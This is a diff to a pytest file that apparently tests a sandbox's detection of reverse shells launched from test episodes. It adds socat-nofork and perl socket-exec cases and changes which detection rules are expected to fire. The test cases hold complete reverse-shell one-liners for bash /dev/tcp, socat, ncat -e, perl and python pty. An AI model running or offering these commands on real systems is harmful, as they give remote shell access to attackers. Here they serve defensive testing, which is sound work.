@@ -2,9 +2,11 @@
 from inside test episodes to a listener in a network namespace (the
 outside host) are killed and the rule is named; the listener never gets a
 byte of shell output. With every text rule switched off, the ones whose
-shell gets the connection as its stdin/stdout (ncat -e, a renamed shell
-after dup2, `exec sh <&3 >&3` after /dev/tcp) are still killed, by
-`reverse-shell` alone. The same reverse shell outside episodes is
+shell gets the connection itself as its stdin/stdout (socat exec:...,nofork,
+perl's open(STDIN, ">&S") + exec, a renamed shell after dup2,
+`exec sh <&3 >&3` after /dev/tcp) are still killed, by `reverse-shell`
+alone; ncat -e, socat exec: (forking) and pty.spawn put pipes, a
+socketpair or a pty in between and are left to the text rules. The same reverse shell outside episodes is
 untouched (its output reaches the listener)."""
 from __future__ import annotations
 
@@ -128,7 +130,11 @@ def _shells(ext, tools):
     return {
         "bash-dev-tcp": (["/bin/bash", "-c", f"bash -i >& /dev/tcp/{a}/{PORT} 0>&1"], {"dev-tcp-redirect"}),
         "socat-exec-sh": (["socat", "exec:sh -i,pty,stderr,setsid,sigint,sane", f"tcp:{a}:{PORT}"], {"socat-relay"}),
-        "ncat-e-sh": (["ncat", "-e", "/bin/sh", a, str(PORT)], {"socket-relay", "reverse-shell"}),
+        "ncat-e-sh": (["ncat", "-e", "/bin/sh", a, str(PORT)], {"socket-relay"}),  # ncat relays through pipes
+        "socat-nofork-sh": (["socat", f"tcp:{a}:{PORT}", "exec:sh -i,nofork"], {"socat-relay", "reverse-shell"}),
+        "perl-open-exec": (["perl", "-e", f'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+                            f'connect(S,sockaddr_in({PORT},inet_aton("{a}")));open(STDIN,">&S");open(STDOUT,">&S");'
+                            'open(STDERR,">&S");exec("/bin/sh -i");'], {"socket-oneliner", "reverse-shell"}),
         "python-pty": ([PY, "-c", f"import socket,os,pty;s=socket.socket();s.connect(('{a}',{PORT}));"
                         "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"], {"socket-oneliner"}),
         "renamed-shell": ([PY, tools["dup_exec"], a, str(PORT), tools["notes"]], {"reverse-shell"}),
@@ -148,7 +154,8 @@ def packs(ext):
             t.stop()
 
 
-CASES = ["bash-dev-tcp", "socat-exec-sh", "ncat-e-sh", "python-pty", "renamed-shell", "dev-tcp-fd-exec-sh"]
+CASES = ["bash-dev-tcp", "socat-exec-sh", "ncat-e-sh", "python-pty", "renamed-shell", "dev-tcp-fd-exec-sh",
+         "socat-nofork-sh", "perl-open-exec"]
 
 
 @pytest.mark.parametrize("case", CASES)
@@ -218,7 +225,7 @@ def behaviour_only(ext, packs, tmp_path_factory):
         t.stop()
 
 
-@pytest.mark.parametrize("case", ["ncat-e-sh", "renamed-shell", "dev-tcp-fd-exec-sh"])
+@pytest.mark.parametrize("case", ["socat-nofork-sh", "perl-open-exec", "renamed-shell", "dev-tcp-fd-exec-sh"])
 def test_reverse_shell_killed_by_behaviour_alone(behaviour_only, ext, tools, episode_id, case):
     argv, _ = _shells(ext, tools)[case]
     if not have(argv[0]):
